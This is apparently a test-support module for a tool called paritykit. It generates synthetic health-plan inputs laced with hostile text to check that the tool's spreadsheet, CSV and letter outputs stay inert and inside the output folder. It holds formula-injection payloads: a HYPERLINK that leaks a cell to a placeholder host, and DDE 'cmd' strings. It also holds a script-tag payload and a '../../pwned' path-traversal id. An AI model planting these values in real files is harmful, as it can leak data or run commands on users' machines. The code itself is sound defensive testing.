"""The hostile-input corpus (output half), made by code: nothing hostile is committed as data.

Every case is a small, synthetic variant of paritykit's own sample data with one kind of
hostile text put where users' data goes (plan, payer, benefit, issuer and NQTL names, plan and
claim ids, plan facts). The tests in this folder build outputs from them and check that what is
written can neither run (formulas, markup) nor land outside ``--out``.
"""

from __future__ import annotations

from pathlib import Path
from typing import Final

import openpyxl
import pandas as pd
import yaml

#: The issue's example: a live formula that would send a neighbouring cell to a web address.
FORMULA: Final = '=HYPERLINK("http://x.invalid/?leak="&A1,"click")'
#: One text per character a spreadsheet treats as the start of a formula (OWASP list).
FORMULAS: Final[dict[str, str]] = {
    "equals": FORMULA,
    "plus": '+HYPERLINK("http://x.invalid")',
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
}
#: Markup that must stay text in a letter.
MARKUP: Final = '<script>alert("x")</script> [click me](http://x.invalid/) <b>bold</b>'
#: A plan id that would climb out of the output folder as a file name.
TRAVERSAL: Final = "../../pwned"
#: A plan id longer than any file system allows as a file name (255 bytes).
LONG_ID: Final = "P" * 300
#: Control characters Excel cannot store (BEL, ESC, NUL).
CONTROL: Final = "Plan\x07 B\x1b\x00"
#: First characters that make a spreadsheet read a text cell as a formula.
TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")


def injected_benefits(plan_id: str = "SAMPLE-B", *, line_breaks: bool = True) -> pd.DataFrame:
    """The SAMPLE-B benefit design under ``plan_id``, benefit labels replaced by formulas.

    ``line_breaks=False`` leaves out the tab and carriage-return payloads (for CSV inputs,
    whose reading is another part of the corpus).
    """
    from paritykit.synth.benefits import sample_benefits

    table = sample_benefits()
    table = table[table["plan_id"] == "SAMPLE-B"].copy()
    table["plan_id"] = plan_id
    payloads = [v for v in FORMULAS.values() if line_breaks or v[0] not in "\t\r"]
    labels = {
        b: payloads[n % len(payloads)] + f" {n}" for n, b in enumerate(table["benefit"].unique())
    }
    table["benefit"] = table["benefit"].map(labels)
    return table.reset_index(drop=True)


def injected_nqtls(plan_id: str = "SAMPLE-B") -> pd.DataFrame:
    """The SAMPLE-B NQTL inventory under ``plan_id``, its free text replaced by formulas."""
    from paritykit.synth.nqtls import sample_nqtls

    table = sample_nqtls()
    table = table[table["plan_id"] == "SAMPLE-B"].copy()
    table["plan_id"] = plan_id
    for column in ("scope", "factors", "evidentiary_standards", "source"):
        table[column] = FORMULA
    return table.reset_index(drop=True)


def injected_plan_facts(plan_id: str = "SAMPLE-B") -> dict[str, object]:
    """SAMPLE-B plan facts with formula and markup in every free-text fact."""
    from paritykit.synth.benefits import sample_plan_facts

    facts = dict(sample_plan_facts("SAMPLE-B"))
    facts.update(
        plan_id=plan_id,
        plan_name=f"{FORMULA} {MARKUP}",
        sponsor=MARKUP,
        administrator="@SUM(1+1) " + MARKUP,
    )
    return facts


def write_inputs(
    folder: Path,
    *,
    plan_id: str = "SAMPLE-B",
    claims: bool = True,
    rows: int = 6000,
    tables: str = "xlsx",
) -> dict[str, Path]:
    """Write benefits, NQTLs, plan facts (.yaml) and claims (.parquet) for one plan.

    ``tables="xlsx"``: one benefits workbook with an NQTLs sheet; ``"csv"``: benefits.csv and
    nqtls.csv, byte for byte what the generator made (control characters included). The claims
    hold ``plan_id`` and two more plans whose ids are formulas.
    """
    import paritykit as pk
    from paritykit.evidence.template import write_benefits_workbook

    folder.mkdir(parents=True, exist_ok=True)
    paths: dict[str, Path] = {}
    if tables == "xlsx":
        paths["benefits"] = write_benefits_workbook(
            injected_benefits(plan_id), folder / "benefits.xlsx", nqtls=injected_nqtls(plan_id)
        )
    else:
        paths["benefits"] = folder / "benefits.csv"
        injected_benefits(plan_id, line_breaks=False).to_csv(paths["benefits"], index=False)
        paths["nqtls"] = folder / "nqtls.csv"
        injected_nqtls(plan_id).to_csv(paths["nqtls"], index=False)
    plan = folder / "plan.yaml"
    plan.write_text(yaml.safe_dump(injected_plan_facts(plan_id)), encoding="utf-8")
    paths["plan"] = plan
    if claims:
        path = folder / "claims.parquet"
        pk.synthesize_claims(
            path,
            rows=rows,
            plans=3,
            seed=5,
            plan_ids=[plan_id, FORMULAS["plus"], FORMULAS["at"]],
            disparities=[
                pk.ClaimsDisparity(
                    plan=1,
                    classification="outpatient_in_network",
                    measure="denial_rate",
                    ratio=2.0,
                )
            ],
        )
        paths["claims"] = path
    return paths


def write_payer_claims(path: Path, claims: int = 400) -> Path:
    """A claims table (Parquet, contract columns) from synthetic remittances, payers renamed.

    Every payer's name becomes one of :data:`FORMULAS` (or :data:`CONTROL`).
    """
    from paritykit import read_835, synthetic_remittances
    from paritykit.synth.remittances import write_practice_year

    remits = synthetic_remittances(claims=claims, seed=7)
    folder = path.parent / "835"
    write_practice_year(remits, folder)
    table = read_835(folder).claims.copy()
    names = [CONTROL, *FORMULAS.values()]
    payers = sorted(table["plan_id"].astype(str).unique())
    table["plan_id"] = (
        table["plan_id"].astype(str).map({p: names[n % len(names)] for n, p in enumerate(payers)})
    )
    table.to_parquet(path, index=False)
    return path


def write_tc_puf(path: Path) -> Path:
    """A tiny TC-PUF workbook (release layout PY2022-2023) whose issuer names are formulas."""
    from paritykit.load.tc_puf import LAYOUTS

    layout = next(lay for lay in LAYOUTS if lay.name == "py2022_2023")
    headers = list(layout.required)
    rows = []
    for n, (state, received, denied) in enumerate(
        [("FL", 4000, 400), ("FL", 6000, 1200), ("OH", 5000, 600), ("OH", 3000, 150)]
    ):
        row: dict[str, object] = {h: 0 for h in headers}
        issuer = 33333 + n
        row.update(
            {
                "State": state,
                "Issuer_ID": issuer,
                "Issuer_Name": list(FORMULAS.values())[n],
                "Is_Issuer_New_to_Exchange?(Yes_or_No)": "No",
                "SADP_Only": "No",
                "Plan_ID": f"{issuer}{state}001",
                "Plan_Type": "HMO",
                "QHP or SADP?": "QHP",
                "Metal_Level": "Silver",
                "Issuer_Claims_Received": received,
                "Issuer_Claims_Denials": denied,
                "Enrollment_Data": 2000,
            }
        )
        rows.append(row)
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    wb.create_sheet("PUF Data Disclaimer").append(["Disclaimer"])
    ws = wb.create_sheet("Transparency 2022 - Ind QHP")
    ws.append(["Individual Marketplace Medical Qualified Health Plans (QHPs)"])
    ws.append(["Legend: * not available; ** suppressed; *** not required; N/A new"])
    ws.append(headers)
    for row in rows:
        ws.append([row.get(h) for h in headers])
    for cells in ws.iter_rows(min_row=4):
        for cell in cells:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # the names stay text in the input, as CMS would store them
    wb.save(path)
    return path


# --- checks ----------------------------------------------------------------------------------


def unescaped(text: str) -> bool:
    """True when a spreadsheet could run ``text`` as a formula (the safety layer's own rule
    is not used here: a text that starts with a trigger and is not a plain number)."""
    import re

    if len(text) < 2 or not text.startswith(TRIGGERS):
        return False
    return not re.fullmatch(r"[+-]?(\d[\d,]*)?\.?\d+([eE][+-]?\d+)?%?", text)


def xlsx_problems(path: Path) -> list[str]:
    """Every cell of an ``.xlsx`` file that is a formula or text that could run as one."""
    problems = []
    workbook = openpyxl.load_workbook(path)
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                where = f"{path.name}!{ws.title}!{cell.coordinate}"
                if cell.data_type == "f":
                    problems.append(f"{where}: formula {cell.value!r}")
                elif isinstance(cell.value, str) and (
                    cell.value.startswith("=") or unescaped(cell.value)
                ):
                    problems.append(f"{where}: text {cell.value!r}")
    return problems


def csv_problems(path: Path) -> list[str]:
    """Every field of a CSV file (header included) that could run as a formula."""
    import csv

    problems = []
    with open(path, newline="", encoding="utf-8") as handle:
        for n, row in enumerate(csv.reader(handle), start=1):
            for value in row:
                if unescaped(value):
                    problems.append(f"{path.name} row {n}: {value!r}")
    return problems
